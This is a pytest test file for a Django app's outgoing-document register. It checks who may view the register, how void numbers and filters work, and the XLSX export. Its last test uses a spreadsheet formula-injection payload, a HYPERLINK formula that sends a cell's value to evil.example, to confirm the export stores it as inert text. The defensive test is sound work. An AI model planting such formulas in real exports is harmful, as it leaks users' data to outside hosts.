"""The unit's outgoing register (发文登记簿): every number the unit gave in a year, with its
document, void numbers with their reason, filters, the XLSX export, and nobody else's eyes."""

from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from tests.factories.documents import advance, draft_document, open_task
from tests.factories.people import RoleAssignmentFactory
from workflow import services
from workflow.models import DocumentType
from workflow.numbering.models import IssuedNumber
from workflow.numbering.services import assign_number, prefix_create

YEAR = timezone.localdate().year


def register_url(office):
    return reverse("gongwen:register", args=[office.unit.pk])


def export_url(office):
    return reverse("gongwen:register_export", args=[office.unit.pk])


@pytest.fixture
def dispatched(office):
    document = draft_document(office, title="关于开展安全生产大检查的通知", copies=30)
    advance(document, office, until="finished")
    document.refresh_from_db()
    return document


@pytest.fixture
def voided(office):
    document = draft_document(office, title="关于调整作息时间的通知")
    advance(document, office, until="red_head")
    services.process_cancel(document=document, user=office.process_admin, reason="内容已过时")
    document.refresh_from_db()
    return document


def numbers(response) -> list[str]:
    return [row.number.text for row in response.context["rows"]]


def test_the_clerk_sees_every_number_of_the_year_with_its_document(
    office, dispatched, voided, client_for
):
    response = client_for(office.clerk).get(register_url(office))

    assert response.status_code == 200
    prefix = office.prefix.text
    assert numbers(response) == [f"{prefix}〔{YEAR}〕1号", f"{prefix}〔{YEAR}〕2号"]
    first = response.context["rows"][0]
    assert first.document == dispatched
    assert first.signers == "马总"
    assert first.main_recipients == "生产部、财务部"
    assert first.copy_recipients == "市应急管理局"
    assert not first.is_void
    html = response.content.decode()
    for text in ("关于开展安全生产大检查的通知", "生产部", "马总", "市应急管理局", "30"):
        assert text in html
    assert dispatched.written_on.isoformat() in html


def test_a_void_number_is_shown_with_its_reason(office, dispatched, voided, client_for):
    response = client_for(office.clerk).get(register_url(office))

    void_row = response.context["rows"][1]
    assert void_row.is_void
    assert void_row.number.void_reason == "内容已过时"
    html = response.content.decode()
    assert 'class="is-void"' in html
    assert "内容已过时" in html
    assert response.context["void_count"] == 1


def test_the_process_administrator_sees_the_register_too(office, dispatched, client_for):
    response = client_for(office.process_admin).get(register_url(office))

    assert response.status_code == 200
    assert len(numbers(response)) == 1


@pytest.mark.parametrize("who", ["drafter", "production_head", "leader", "verifier", "outsider"])
def test_nobody_else_of_the_unit_sees_the_register(office, dispatched, client_for, who):
    person = getattr(office, who)

    assert client_for(person).get(register_url(office)).status_code == 403
    assert client_for(person).get(export_url(office)).status_code == 403
    assert client_for(person).get(reverse("gongwen:register_index")).status_code == 403


def test_the_clerk_of_another_unit_does_not_see_this_register(
    office, other_office, dispatched, client_for
):
    for person in (other_office.clerk, other_office.process_admin):
        assert client_for(person).get(register_url(office)).status_code == 403
        assert client_for(person).get(export_url(office)).status_code == 403


def test_a_clerk_role_for_the_headquarters_does_not_reach_the_units_register(
    office, dispatched, client_for
):
    headquarters_clerk = RoleAssignmentFactory(unit=office.unit.get_parent()).user

    assert client_for(headquarters_clerk).get(register_url(office)).status_code == 403


def test_the_register_index_opens_the_clerks_own_unit(office, client_for):
    response = client_for(office.clerk).get(reverse("gongwen:register_index"))

    assert response.status_code == 302
    assert response["Location"] == register_url(office)


def test_the_register_filters_by_year_prefix_and_type(office, dispatched, client_for):
    office_prefix = prefix_create(unit=office.unit, text="甲办", user=None)
    report = draft_document(office, title="年度工作报告", doc_type=DocumentType.REPORT)
    advance(report, office, until="numbering")
    services.number_assign(
        task=open_task(report),
        user=office.clerk,
        prefix=office_prefix,
    )
    clerk = client_for(office.clerk)

    assert len(numbers(clerk.get(register_url(office)))) == 2
    assert numbers(clerk.get(register_url(office), {"prefix": office_prefix.pk})) == [
        f"甲办〔{YEAR}〕1号"
    ]
    assert numbers(clerk.get(register_url(office), {"doc_type": "report"})) == [
        f"甲办〔{YEAR}〕1号"
    ]
    assert numbers(clerk.get(register_url(office), {"year": YEAR - 1})) == []


def test_last_years_numbers_are_in_last_years_register(office, client_for):
    assign_number(prefix=office.prefix, user=office.clerk, year=YEAR - 1, subject="旧年度的函")
    clerk = client_for(office.clerk)

    this_year = clerk.get(register_url(office))
    last_year = clerk.get(register_url(office), {"year": YEAR - 1})

    assert numbers(this_year) == []
    assert numbers(last_year) == [f"{office.prefix.text}〔{YEAR - 1}〕1号"]
    assert "旧年度的函" in last_year.content.decode()
    assert YEAR - 1 in this_year.context["form"].years


def test_the_register_exports_to_xlsx_with_chinese_headers(office, dispatched, voided, client_for):
    response = client_for(office.clerk).get(export_url(office))

    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert f"{office.unit.code}-{YEAR}.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    with translation.override("zh-hans"):
        assert values[1][:3] == [
            translation.gettext("No."),
            translation.gettext("Document number"),
            translation.gettext("Title"),
        ]
    prefix = office.prefix.text
    first, second = values[2], values[3]
    assert first[:3] == [1, f"{prefix}〔{YEAR}〕1号", "关于开展安全生产大检查的通知"]
    assert first[4:7] == ["生产部", "何拟稿", "马总"]
    assert first[7].date() == dispatched.written_on
    assert first[8:11] == ["生产部、财务部", "市应急管理局", 30]
    assert second[1] == f"{prefix}〔{YEAR}〕2号"
    assert second[13] == "内容已过时"
    assert second[12]  # marked void
    assert len(values) == 4


def test_the_export_follows_the_filters(office, dispatched, voided, client_for):
    response = client_for(office.clerk).get(export_url(office), {"year": YEAR - 1})

    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.max_row == 2  # title and headers only


def test_the_register_reads_a_bounded_number_of_queries(
    office, dispatched, client_for, django_assert_max_num_queries
):
    clerk = client_for(office.clerk)
    with django_assert_max_num_queries(30) as few:
        clerk.get(register_url(office))
    for n in range(5):
        document = draft_document(office, title=f"第{n}份通知")
        advance(document, office, until="finished")

    with django_assert_max_num_queries(len(few.captured_queries)):
        response = clerk.get(register_url(office))

    assert len(numbers(response)) == 6
    assert IssuedNumber.objects.count() == 6


def test_document_text_is_exported_as_text_never_as_a_formula(office, client_for):
    hostile = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
    document = draft_document(office, title=hostile)
    advance(document, office, until="finished")
    response = client_for(office.clerk).get(export_url(office))
    title = load_workbook(BytesIO(response.content)).active.cell(row=3, column=3)
    assert title.value == hostile
    assert title.data_type == "s"
    assert title.quotePrefix
